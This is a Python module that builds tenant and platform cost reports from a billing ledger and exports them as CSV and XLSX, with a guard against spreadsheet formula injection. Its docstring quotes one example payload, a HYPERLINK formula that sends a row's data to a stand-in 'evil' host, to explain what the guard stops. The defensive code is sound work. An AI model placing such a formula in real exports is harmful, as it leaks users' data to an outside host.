"""Cost reports for finance, straight from the ledger (billing.UsageRecord).

Per tenant and period: one row per (day, project, API key, model) with requests, input tokens,
output tokens and cost, then a total row. The period is one of the tenant's cycle windows (as its
quota counters name them: "m2026-12" a calendar month, "c2026-12-15" a month from the billing day
or a week or N days, "c2026-12-15@1765843200" the first window after a change of cycle, cut at
the change), or a calendar month "YYYY-MM" in the tenant's time zone (quotas.cycles.report_span).
Rows are the calls that ended in [start, end) of the period; days are the tenant's local days;
every row states the period's start, end and time zone (window_start, window_end, time_zone),
so a row read alone still says which window it belongs to. Platform-wide (for operators): one row
per tenant over a calendar month in UTC (tenants' cycles differ; the platform's month is UTC's).
Figures are sums of the ledger's integers, so the totals equal the ledger to the micro-dollar;
money is printed in US dollars with six decimals (exact: micro-dollars / 10^6).

They are read from the ledger's daily rollup (billing.UsageRollup, billing/rollups.py): a
tenant report from the rollup of its local days in the period's zone for every day the period
holds whole and the tenant's days were in that zone all day, and from raw rows (UsageRecord) for
the rest: a period cut mid-day at a change of cycle, and days before the tenant's days moved to
the period's zone (their rollups are in the zone of that time). The platform report reads the UTC
rollups only. Rows are ordered by day, then by text in code point order.

Columns (tenant report): day, project, api_key, model, requests, input_tokens, output_tokens,
cached_input_tokens, cache_write_tokens, reasoning_tokens, cost_usd, then the sweep and its
corrections (below), then window_start, window_end (ISO 8601 with the zone's offset) and
time_zone. Columns (platform report): tenant, plan, requests, input_tokens,
output_tokens, the same three token classes, cost_usd, then the same sweep columns.
Released requests count as requests with zero tokens and zero cost.

The token classes are the parts of the totals the upstream prices apart (gateway/usage.py):
  cached_input_tokens  of input_tokens, read from the provider's prompt cache (OpenAI
                       cached_tokens, Anthropic cache_read_input_tokens)
  cache_write_tokens   of input_tokens, written to the prompt cache (Anthropic
                       cache_creation_input_tokens)
  reasoning_tokens     of output_tokens, reasoning / thinking
input_tokens and output_tokens stay totals (what quota counts); cost_usd prices each class at
the model's price for it.

The sweep columns tell finance which figures are not the upstream's own:
  swept_requests      rows still charged what the sweep knew (the gateway never ended the call:
                      nothing, the input and the output delivered, or the whole hold)
  corrected_requests  swept rows that a settle or release arriving later corrected to the real
                      usage; their tokens and cost_usd are the real ones
  sweep_charged_usd   what the sweep had charged those corrected rows
  correction_usd      cost_usd of those rows minus sweep_charged_usd (negative: charged back)
A corrected row stays on the day it was swept (the report of a closed window does not move).

Formula injection (OWASP "CSV injection"): text in these files comes partly from tenants (model
names, project slugs), and a spreadsheet runs a cell starting with `=`, `+`, `-`, `@`, a tab or a
carriage return as a formula (`=HYPERLINK("https://evil/?"&C2,"x")` sends the row away when
clicked). Every text cell that starts so is written with a leading `'` (inert_text), in the CSV and
in the XLSX, where text cells are also always string cells, never formulas. Numbers are not text:
they stay numbers (a negative cost stays a negative number). Every writer of these files (the
management API's downloads, which the console links to, and the cost_report command) goes
through to_csv / to_xlsx.
"""
from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from django.db.models import Q

from billing.rollups import UTC_ZONE, DayPlan, sums, whole_days
from gateway.usage import TOKEN_CLASSES
from quotas.cycles import Span, report_span
from tenants.models import Tenant

SWEEP_COLUMNS = ("swept_requests", "corrected_requests", "sweep_charged_usd", "correction_usd")
CLASS_COLUMNS = TOKEN_CLASSES
WINDOW_COLUMNS = ("window_start", "window_end", "time_zone")
TENANT_COLUMNS = ("day", "project", "api_key", "model", "requests", "input_tokens",
                  "output_tokens", *CLASS_COLUMNS, "cost_usd", *SWEEP_COLUMNS, *WINDOW_COLUMNS)
PLATFORM_COLUMNS = ("tenant", "plan", "requests", "input_tokens", "output_tokens",
                    *CLASS_COLUMNS, "cost_usd", *SWEEP_COLUMNS)


# Ordered (by year, then month): the partitions' upkeep sorts the months it finds.
@dataclass(frozen=True, order=True)
class Month:
    year: int
    month: int

    @classmethod
    def parse(cls, text: str) -> Month:
        try:
            moment = datetime.strptime(text, "%Y-%m")
        except ValueError:
            raise ValueError(f"a month is written YYYY-MM, got {text!r}") from None
        return cls(moment.year, moment.month)

    @property
    def start(self) -> datetime:
        return datetime(self.year, self.month, 1, tzinfo=UTC)

    @property
    def end(self) -> datetime:
        return datetime(self.year + self.month // 12, self.month % 12 + 1, 1, tzinfo=UTC)

    def __str__(self) -> str:
        return f"{self.year:04d}-{self.month:02d}"


@dataclass(frozen=True)
class Report:
    title: str
    columns: tuple[str, ...]
    rows: list[tuple[object, ...]]
    totals: tuple[object, ...]
    cost_micros: int  # the exact total, for checks


def usd(micros: int) -> Decimal:
    return Decimal(micros).scaleb(-6).quantize(Decimal("0.000001"))


_SUMMED = ("requests", "input_tokens", "output_tokens", *CLASS_COLUMNS, "cost", "swept",
           "corrected", "sweep_charged", "corrected_cost")


def _named(groups: list[dict]) -> list[dict]:
    """billing.rollups.sums rows with the report's names (cost for cost_micros)."""
    for g in groups:
        g["cost"] = g.pop("cost_micros")
    return groups


def _totals(groups: list[dict]) -> dict[str, int]:
    return {name: sum(g[name] for g in groups) for name in _SUMMED}


def _token_cells(g: dict) -> tuple[object, ...]:
    """input_tokens, output_tokens and the classes, then cost_usd."""
    return (g["input_tokens"], g["output_tokens"], *(g[name] for name in CLASS_COLUMNS),
            usd(g["cost"]))


def _sweep_cells(g: dict) -> tuple[object, ...]:
    return (g["swept"], g["corrected"], usd(g["sweep_charged"]),
            usd(g["corrected_cost"] - g["sweep_charged"]))


def tenant_report(tenant: Tenant, span: Span) -> Report:
    """The tenant's calls that ended in the window `span` (quotas.cycles: report_span,
    recent_cycle_windows), by the tenant's local day, project, key and model."""
    window = (span.start.isoformat(), span.end.isoformat(), span.zone)
    plan = whole_days(tenant, span.zone, span.start, span.end)
    groups = _named(sums(plan, ("day", "project__slug", "api_key__public_id", "served_model"),
                         Q(tenant=tenant)))
    rows = [(g["day"].isoformat(), g["project__slug"] or "(deleted)",
             g["api_key__public_id"] or "(deleted)", g["served_model"], g["requests"],
             *_token_cells(g), *_sweep_cells(g), *window)
            for g in groups]
    t = _totals(groups)
    return Report(
        title=f"{tenant.slug} {span.id}",
        columns=TENANT_COLUMNS,
        rows=rows,
        totals=("total", "", "", "", t["requests"], *_token_cells(t), *_sweep_cells(t), *window),
        cost_micros=t["cost"],
    )


def tenant_period(tenant: Tenant, period: str) -> Report:
    """The report of `period`: a cycle window id or a month YYYY-MM (quotas.cycles.report_span;
    ValueError for anything else)."""
    return tenant_report(tenant, report_span(tenant, period))


def platform_month(month: Month) -> Report:
    utc = month.start.date()
    days = [utc + timedelta(days=n) for n in range((month.end.date() - utc).days)]
    # The platform's month is UTC's: every row has its UTC rollup, no raw row is read.
    groups = _named(sums(DayPlan(UTC_ZONE, days, []), ("tenant__slug", "tenant__plan__name")))
    rows = [(g["tenant__slug"], g["tenant__plan__name"], g["requests"], *_token_cells(g),
             *_sweep_cells(g)) for g in groups]
    t = _totals(groups)
    return Report(
        title=f"all tenants {month}",
        columns=PLATFORM_COLUMNS,
        rows=rows,
        totals=("total", "", t["requests"], *_token_cells(t), *_sweep_cells(t)),
        cost_micros=t["cost"],
    )


# What makes a spreadsheet read a text cell as a formula (OWASP's list).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def inert_text(value: object) -> object:
    """`value` as a report cell: text that a spreadsheet would run as a formula gets a leading
    single quote; anything else (numbers included, negative ones too) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _inert_row(row: tuple[object, ...]) -> list[object]:
    return [inert_text(value) for value in row]


def to_csv(report: Report) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(_inert_row(report.columns))
    writer.writerows(_inert_row(row) for row in report.rows)
    writer.writerow(_inert_row(report.totals))
    return out.getvalue().encode()


def _xlsx_cell_value(value: object) -> object:
    """A value openpyxl stores as itself: dollars as numbers, text made inert and stripped of the
    control characters XLSX cannot hold (openpyxl would refuse the whole file)."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(inert_text(value)))
    return value


def to_xlsx(report: Report) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    sheet = book.active
    sheet.title = report.title[:31]
    bold = Font(bold=True)
    last = len(report.rows) + 2
    for row_number, row in enumerate([report.columns, *report.rows, report.totals], start=1):
        for column, value in enumerate(row, start=1):
            cell = sheet.cell(row=row_number, column=column, value=_xlsx_cell_value(value))
            if isinstance(value, str):
                cell.data_type = "s"  # text is a string cell, never a formula
            elif isinstance(value, Decimal):
                cell.number_format = "0.000000"  # dollars with six places shown
            if row_number in (1, last):
                cell.font = bold
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
